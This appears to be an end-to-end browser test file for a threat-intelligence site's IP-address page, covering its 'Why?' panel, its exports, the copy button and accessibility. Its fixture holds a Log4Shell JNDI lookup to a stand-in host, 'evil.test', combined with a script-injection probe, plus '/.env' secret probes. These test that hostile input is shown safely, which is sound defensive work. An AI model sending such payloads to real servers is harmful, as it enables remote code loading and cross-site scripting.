import { readFileSync } from 'node:fs'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { captureOf, upload, waitUntilIdle, webVisit } from '../product/captures.ts'
import { type Inside, openInside } from '../product/inside.ts'
import { violations } from './accessible.ts'
import { openBrowser } from './open.ts'
import { alive, sideways, visit } from './visitor.ts'

let product: Inside
let browser: Browser
const ip = '198.18.1.1'
const payload = '/?x=${jndi:ldap://evil.test/a}<script>alert(1)</script>'

/** An address that tries Log4Shell with markup in its request, and two more of its block. */
beforeAll(async () => {
  ;[product, browser] = await Promise.all([openInside(), openBrowser()])
  const at = Date.now() - 600_000
  await upload(
    product,
    captureOf([
      webVisit(ip, { uri: payload, userAgent: 'curl/8.5.0' }, at),
      webVisit(ip, { uri: '/.env', userAgent: 'curl/8.5.0' }, at + 1000),
      ...[2, 3].map((last) => webVisit(`198.18.1.${last}`, { uri: '/.env' }, at)),
    ]),
  )
  await waitUntilIdle(product)
})

afterAll(async () => {
  await browser?.close()
  await product?.close()
})

async function visiting(journey: (page: Page) => Promise<void>, options: Parameters<typeof visit>[2] = {}) {
  const visitor = await visit(browser, product.url, options)
  await journey(visitor.page)
  await visitor.leave()
  expect(visitor.problems).toEqual([])
}

describe.each([
  ['with scripts', true],
  ['without scripts', false],
])('%s', (_, javaScriptEnabled) => {
  test('"Why?" leads from a tag to its rule and to the request that matched, shown as text', async () => {
    await visiting(
      async (page) => {
        await page.goto(`/ip/${ip}`)
        await page
          .getByRole('link', { name: /^What matched of .*Log4/ })
          .first()
          .click()
        const why = page.getByRole('region', { name: 'Why?' })
        await why.getByText(payload, { exact: false }).first().waitFor()
        await why.getByText(/^1 session to 80\/tcp/).waitFor()
        expect(page.url()).toContain('?why=')
        await why.getByRole('link', { name: /^Hide/ }).click()
        await why.getByText(payload).first().waitFor({ state: 'detached' })
      },
      { javaScriptEnabled },
    )
  })

  test('the record is exported as JSON, CSV and STIX, and the timeline and its choices are links', async () => {
    await visiting(
      async (page) => {
        await page.goto(`/ip/${ip}`)
        if (javaScriptEnabled) await alive(page)
        for (const [name, holds] of [
          ['JSON', `"ip":"${ip}"`],
          ['CSV', `${ip},`],
          ['STIX 2.1', `[ipv4-addr:value = '${ip}']`],
        ] as const) {
          const actions = page.getByRole('group', { name: 'Actions' })
          const link = actions.getByRole('link', { name: new RegExp(`^${name}`) })
          if (!(await link.isVisible())) await actions.getByText('Export', { exact: true }).click()
          const [download] = await Promise.all([page.waitForEvent('download'), link.click()])
          expect(readFileSync(await download.path(), 'utf8')).toContain(holds)
          expect(download.suggestedFilename()).toMatch(
            /^ips?_.*198-18-1-1_\d{8}T\d{6}Z\.(?:json|csv|stix\.json)$/,
          )
        }
        await page.goto(`/ip/${ip}?tab=timeline`)
        await page.getByRole('img', { name: /Log4.*1 session, in 1 day of 30/ }).waitFor()
        await page.getByRole('navigation', { name: 'Show' }).getByRole('link', { name: 'Paths' }).click()
        await page.getByRole('img', { name: /^\/\.env: 1 session/ }).waitFor()
        await page.getByRole('navigation', { name: 'Window' }).getByRole('link', { name: '7 days' }).click()
        await page.getByRole('img', { name: /^\/\.env: 1 session, in 1 day of 7/ }).waitFor()
      },
      { javaScriptEnabled, acceptDownloads: true },
    )
  })
})

test('neighbours lead to who else of the block was seen; the raw record is what the API answers', async () => {
  await visiting(async (page) => {
    await page.goto(`/ip/${ip}`)
    await alive(page)
    await page.getByRole('link', { name: '198.18.1.0/24' }).click()
    await page.getByText('3 IPs', { exact: true }).waitFor()
    await page.goto(`/ip/${ip}?tab=raw`)
    const shown: unknown = JSON.parse(await page.getByRole('region', { name: 'Record as JSON' }).innerText())
    expect(shown).toEqual(await (await fetch(new URL(`/v3/ip/${ip}`, product.url))).json())
  })
})

test('the address is copied and said so; a menu closes by Escape, which gives the focus back, and by a click elsewhere', async () => {
  await visiting(
    async (page) => {
      await page.goto(`/ip/${ip}`)
      await alive(page)
      const actions = page.getByRole('group', { name: 'Actions' })
      await actions.getByRole('button', { name: 'Copy' }).click()
      await page.getByText(`Copied ${ip}`).waitFor()
      expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(ip)
      const summary = actions.getByText('Look elsewhere', { exact: true })
      const link = actions.getByRole('link', { name: /^Shodan/ })
      await summary.click()
      expect(await link.getAttribute('rel')).toContain('noreferrer')
      await page.keyboard.press('Escape')
      await link.waitFor({ state: 'hidden' })
      expect(await summary.evaluate((element) => element === document.activeElement)).toBe(true)
      await summary.click()
      await link.waitFor()
      await page.getByRole('heading', { level: 1 }).click({ position: { x: 2, y: 2 } })
      await link.waitFor({ state: 'hidden' })
    },
    { permissions: ['clipboard-read', 'clipboard-write'] },
  )
})

test.each(['', '?tab=timeline', '?tab=raw', '?why=log4shell'])(
  'accessible, and it fits: %s',
  async (search) => {
    for (const [colorScheme, width] of [
      ['light', 320],
      ['dark', 1440],
    ] as const)
      await visiting(
        async (page) => {
          await page.goto(`/ip/${ip}${search}`)
          await alive(page)
          expect(await violations(page)).toEqual([])
          expect(await sideways(page)).toEqual([])
        },
        { colorScheme, viewport: { width, height: 800 } },
      )
  },
)

test('in the reader’s own colours the line under a tab still tells which one is open', async () => {
  await visiting(
    async (page) => {
      await page.goto(`/ip/${ip}`)
      const tabs = page.getByRole('navigation', { name: 'Views of this address' })
      const lineOf = (name: string): Promise<string> =>
        tabs.getByRole('link', { name }).evaluate((tab) => getComputedStyle(tab).borderBottomStyle)
      expect([await lineOf('Overview'), await lineOf('Timeline')]).toEqual(['solid', 'none'])
    },
    { forcedColors: 'active' },
  )
})

test('in the reader’s own colours a line tells what is chosen, where elsewhere its ground or bold type does', () =>
  visiting(
    async (page) => {
      for (const [path, label, chosen, other] of [
        [`/ip/${ip}?tab=timeline&days=7`, 'Window', '7 days', '30 days'],
        ['/query/last_seen%3A90d?view=stats', 'Views', 'Stats', 'List'],
        ['/tags', 'Query', 'Tags', 'CVEs'],
      ] as const) {
        await page.goto(path)
        const links = page.getByRole('navigation', { name: label, exact: true })
        const lineOf = (name: string): Promise<string> =>
          links
            .getByRole('link', { name, exact: true })
            .evaluate((link) => getComputedStyle(link).borderBottomWidth)
        expect([path, await lineOf(chosen), await lineOf(other)]).toEqual([path, '3px', '0px'])
      }
    },
    { forcedColors: 'active' },
  ))
